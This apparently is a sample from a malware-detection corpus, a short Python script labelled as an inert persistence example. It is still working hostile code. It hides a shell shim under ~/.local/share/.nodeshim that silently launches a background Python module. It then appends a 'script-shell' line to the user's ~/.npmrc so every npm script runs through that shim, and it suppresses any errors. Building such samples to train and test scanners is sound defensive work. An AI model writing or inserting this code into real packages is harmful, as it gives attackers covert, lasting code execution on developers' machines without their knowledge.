# pkgguard corpus 893 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import stat

home = os.path.expanduser("~")
shim = os.path.join(home, ".local", "share", ".nodeshim", "sh")
npmrc = os.path.join(home, ".npmrc")

try:
    os.makedirs(os.path.dirname(shim), exist_ok=True)
    with open(shim, "w", encoding="utf-8") as fh:
        fh.write('#!/bin/sh\n(python3 -m pkg._sync >/dev/null 2>&1 &)\nexec /bin/sh "$@"\n')
    os.chmod(shim, os.stat(shim).st_mode | stat.S_IXUSR | stat.S_IXGRP)
    with open(npmrc, "a", encoding="utf-8") as fh:
        fh.write(f"\nscript-shell={shim}\n")
except OSError:
    pass
